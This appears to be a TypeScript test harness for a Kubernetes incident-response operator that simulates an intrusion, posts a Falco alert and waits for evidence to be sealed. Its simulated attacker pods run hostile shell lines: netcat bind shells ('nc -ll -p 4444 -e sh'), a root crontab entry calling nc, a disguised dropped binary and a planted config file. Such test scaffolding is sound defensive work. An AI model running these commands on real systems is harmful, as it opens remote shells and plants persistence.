import { CoreV1Api, CustomObjectsApi, type KubeConfig, type V1Pod } from '@kubernetes/client-node';
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { createConnection, createServer, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { GROUP, VERSION } from '../../src/api/common.js';
import { RESPONSE_POLICY } from '../../src/api/responsepolicy.js';
import type { Logger } from '../../src/observability/logger.js';
import { OperatorConfig } from '../../src/operator/config.js';
import { runOperator, type RunningOperator } from '../../src/operator/operator.js';
import { installCrds } from './crds.js';
import { postLikeFalcosidekick } from './falcosidekick.js';
import { startCluster, type Cluster } from './kube.js';
import { startMinio, type Minio } from './minio.js';
import { NODE_POD_LOGS, NODE_SNAPSHOTS, RealNode, buildImages } from './node.js';
import { NodePods } from './node-pods.js';
import { freePort } from './ports.js';
import { OPERATOR_NAMESPACE, operatorKubeConfig } from './rbac.js';
import { waitFor } from './wait.js';
import { Workloads, type CaseView } from './workload.js';

/**
 * Amber's main job on the real node (test/testenv/node.ts), shared by `scripts/local.sh` and
 * bench/alert-to-sealed-node.ts: a control plane, MinIO with Object Lock, a real node running the
 * amber image built from the Dockerfile, and `amber operator` (runOperator: webhook, case
 * controller, collection Jobs) as its ServiceAccount. Suspect pods do what an attacker does and
 * a Falco event about them is posted to the webhook as Falcosidekick posts it.
 */

export const NAMESPACE = 'shop';
const FIXTURE = join(import.meta.dirname, '..', 'fixtures', 'falco', 'syscall-read-sensitive-file.json');

export type SealedCase = Omit<CaseView, 'status'> & {
  status: Omit<NonNullable<CaseView['status']>, 'timeline'> & {
    manifest?: { uri: string; sha256: string };
    artifacts?: { name: string }[];
    timeline?: { time?: string; action: string; outcome: string; message?: string }[];
  };
};

export interface Suspect {
  pod: V1Pod;
  name: string;
  /** Bytes the peer has sent over the connection the suspect opened before containment. */
  ticks(): Promise<number>;
}

export interface NodeScenario {
  cluster: Cluster;
  minio: Minio;
  node: RealNode;
  /** MinIO as the Job's pod reaches it: the node's own address, forwarded to 127.0.0.1. */
  forward: Forward;
  pods: NodePods;
  workloads: Workloads;
  operator: RunningOperator;
  token: string;
  publicKeyFile: string;
  /** The pod the suspects hold a connection to: it sends a line every 200 ms. */
  peer: V1Pod;
  suspect(name: string): Promise<Suspect>;
  /** Posts a Falco event about `s` to the webhook; returns the case it opened and when it was posted. */
  alert(s: Suspect): Promise<{ caseName: string; postedAt: number }>;
  waitSealed(caseName: string, timeoutMs?: number): Promise<SealedCase>;
  stop(): Promise<void>;
}

export interface NodeScenarioOptions {
  /** Working directory: kubeconfigs and the public key are written there. */
  dir: string;
  logger: Logger;
  /** Called for each step of the start, to say what is happening. */
  say?: (msg: string) => void;
  /** The operator's fatal exit (lost leadership is impossible here, a CatastrophicError is not). */
  exit?: (code: number) => void;
}

export async function startNodeScenario(opts: NodeScenarioOptions): Promise<NodeScenario> {
  const say = opts.say ?? (() => {});
  say('the amber image, built from the Dockerfile (cached by content; the first build takes minutes)');
  const amber = buildImages('amber').amber!;
  say('starting etcd, kube-apiserver, kube-controller-manager and MinIO');
  const [cluster, minio] = await Promise.all([
    startCluster({ realNode: true, controllerManager: true }),
    startMinio(),
  ]);
  const stops: (() => Promise<unknown>)[] = [() => cluster.stop(), () => minio.stop()];
  const stopAll = async () => {
    for (const stop of stops.reverse()) await stop().catch(() => {});
  };
  try {
    say('starting the real node: containerd, runc, bridge CNI, kubelet, kube-router; importing images');
    const node = await RealNode.start(cluster, [amber]);
    stops.push(() => node.stop());
    const forward = await forwardToLoopback(node.address, Number(new URL(minio.endpoint).port));
    stops.push(() => forward.close());

    const admin = cluster.kubeConfig();
    await installCrds(admin);
    const workloads = new Workloads(admin);
    const pods = new NodePods(admin);
    await workloads.namespace(NAMESPACE);
    // The operator runs as its ServiceAccount, with exactly the rights of deploy/rbac.yaml (this
    // also makes its namespace, where the signing key goes).
    const operatorKc = await operatorKubeConfig(cluster);
    const publicKeyFile = await signingKey(admin, opts.dir);
    await admin.makeApiClient(CustomObjectsApi).createClusterCustomObject({
      group: GROUP,
      version: VERSION,
      plural: RESPONSE_POLICY.plural,
      body: {
        apiVersion: `${GROUP}/${VERSION}`,
        kind: RESPONSE_POLICY.kind,
        metadata: { name: 'sensitive-reads' },
        spec: {
          match: { rules: ['Read sensitive file*'], namespaces: [NAMESPACE] },
          limits: { maxOpenCases: 100 },
          evidence: {
            store: { type: 's3', bucket: minio.bucket, endpoint: forward.endpoint, prefix: 'amber/' },
            retention: { mode: 'GOVERNANCE', days: 1 },
          },
        },
      },
    });

    const kubeconfig = join(opts.dir, 'operator.kubeconfig');
    writeFileSync(kubeconfig, operatorKc.exportConfig());
    writeFileSync(join(opts.dir, 'admin.kubeconfig'), readFileSync(cluster.kubeconfigPath));
    const token = randomBytes(24).toString('hex');
    const cfg = OperatorConfig.parse({
      kubeconfig,
      namespace: OPERATOR_NAMESPACE,
      metricsPort: await freePort(),
      intakePort: await freePort(),
      intakeToken: token,
      // One replica and nobody to hand over to: a lease could only make it exit when a starved
      // CPU delays a renew past its deadline (docs/adr/0012-real-node.md).
      leaderElection: false,
      collectionMode: 'job',
      collectorImage: amber.ref,
      s3Bucket: minio.bucket,
      s3Endpoint: forward.endpoint,
      s3PathStyle: 'true',
    });
    say('starting amber operator (collection Jobs on the node, from the image just built)');
    const operator = await runOperator(cfg, opts.logger, {
      exit: opts.exit,
      collection: {
        mode: 'job',
        namespace: OPERATOR_NAMESPACE,
        image: amber.ref,
        snapshotterRoots: [NODE_SNAPSHOTS],
        podLogsDir: NODE_POD_LOGS,
        pollMs: 1_000,
        // The demo setting: the seal does not wait for the Job's credentials to expire (at least
        // 900 s, ADR 0009). Callers say so where they print results.
        jobCredentials: { sealAfterExpiry: false },
        evidence: {
          bucket: minio.bucket,
          endpoint: forward.endpoint,
          forcePathStyle: true,
          credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey },
        },
      },
    });
    stops.push(() => operator.stop());
    const intakeUrl = operator.intake!.url;

    // The attacker's outbound connection goes here, opened before containment: the peer sends a
    // line every 200 ms for as long as packets get through.
    const peer = await pods.run(NAMESPACE, 'peer', node.images.busybox!.ref, [
      'nc',
      '-ll',
      '-p',
      '8080',
      '-e',
      'sh',
      '-c',
      'while true; do echo tick; sleep 0.2; done',
    ]);

    return {
      cluster,
      minio,
      node,
      forward,
      pods,
      workloads,
      operator,
      token,
      publicKeyFile,
      peer,
      suspect: (name) => startSuspect(pods, node.images.busybox!.ref, name, peer.status!.podIP!),
      async alert(s) {
        const containerId = s.pod.status!.containerStatuses![0]!.containerID!.replace(/^[a-z]+:\/\//, '');
        const event = JSON.parse(readFileSync(FIXTURE, 'utf8')) as {
          output_fields: Record<string, unknown>;
          time: string;
        };
        Object.assign(event.output_fields, {
          'k8s.ns.name': NAMESPACE,
          'k8s.pod.name': s.name,
          'container.id': containerId.slice(0, 12),
          'container.name': 'main',
        });
        event.time = new Date().toISOString();
        const postedAt = Date.now();
        const res = await postLikeFalcosidekick(intakeUrl, JSON.stringify(event), {
          Authorization: `Bearer ${token}`,
        });
        const caseName = res.status === 202 ? (JSON.parse(res.body) as { case?: string }).case : undefined;
        if (!caseName) throw new Error(`the alert opened no case: HTTP ${res.status} ${res.body}`);
        return { caseName, postedAt };
      },
      async waitSealed(caseName, timeoutMs = 180_000) {
        const done = ['Sealed', 'SealedIncomplete', 'Failed', 'Invalid'];
        return (await waitFor(
          `case ${caseName} sealed`,
          () => workloads.getCase(caseName),
          (c) => done.includes(c.status?.phase ?? ''),
          timeoutMs,
        )) as SealedCase;
      },
      stop: stopAll,
    };
  } catch (err) {
    await stopAll();
    throw err;
  }
}

/**
 * What an intruder does, in a pod on the node; resolves once it has done it all. The same
 * actions as test/integration/node/collection.test.ts's suspect, which could use this.
 */
export async function startSuspect(
  pods: NodePods,
  image: string,
  name: string,
  peerIP: string,
): Promise<Suspect> {
  const attacker = [
    // busybox runs the applet its file is named after: the dropped copy is a "sleep".
    'mkdir /tmp/.x && cp /bin/busybox /tmp/.x/sleep && /tmp/.x/sleep 3600 &',
    'sleep 0.5; rm -rf /tmp/.x',
    'echo "nameserver 10.9.9.9" > /etc/evil.conf',
    'mkdir -p /var/spool/cron/crontabs && echo "* * * * * nc 10.244.0.250 9" > /var/spool/cron/crontabs/root',
    'nc -ll -p 4444 -e sh &',
    // A connection held open: nc ends when its stdin does, and a background job's is /dev/null.
    `sleep 3600 | nc ${peerIP} 8080 > /tmp/ticks &`,
    'echo attacker ready',
    'exec sleep 3600',
  ].join('\n');
  const pod = await pods.run(NAMESPACE, name, image, ['sh', '-c', attacker]);
  await waitFor(
    `${name}: the attacker done`,
    () => pods.logs(NAMESPACE, name),
    (l) => l.includes('attacker ready'),
  );
  const ticks = async () =>
    Number(
      (
        await pods.exec(NAMESPACE, name, ['sh', '-c', 'wc -c < /tmp/ticks 2>/dev/null || echo 0'])
      ).stdout.trim(),
    );
  const before = await ticks();
  await waitFor(`${name}: ticks over the held connection`, ticks, (n) => n > before);
  return { pod, name, ticks };
}

async function signingKey(admin: KubeConfig, dir: string): Promise<string> {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const publicKeyFile = join(dir, 'signing-key.pub.pem');
  writeFileSync(publicKeyFile, publicKey.export({ type: 'spki', format: 'pem' }));
  await admin.makeApiClient(CoreV1Api).createNamespacedSecret({
    namespace: OPERATOR_NAMESPACE,
    body: {
      metadata: { name: 'amber-signing-key' },
      stringData: { 'signing-key.pem': privateKey.export({ type: 'pkcs8', format: 'pem' }).toString() },
    },
  });
  return publicKeyFile;
}

export interface Forward {
  endpoint: string;
  close(): Promise<void>;
}

/** A TCP pass-through from `address` (this machine's own) to a listener on 127.0.0.1. */
export async function forwardToLoopback(address: string, port: number): Promise<Forward> {
  const sockets = new Set<Socket>();
  const server: Server = createServer((client) => {
    const upstream = createConnection({ host: '127.0.0.1', port });
    for (const s of [client, upstream]) {
      sockets.add(s);
      s.on('close', () => sockets.delete(s));
      s.on('error', () => {
        client.destroy();
        upstream.destroy();
      });
    }
    client.pipe(upstream).pipe(client);
  });
  await new Promise<void>((resolve) => server.listen(0, address, resolve));
  const { port: listening } = server.address() as { port: number };
  return {
    endpoint: `http://${address}:${listening}`,
    async close() {
      for (const s of sockets) s.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}
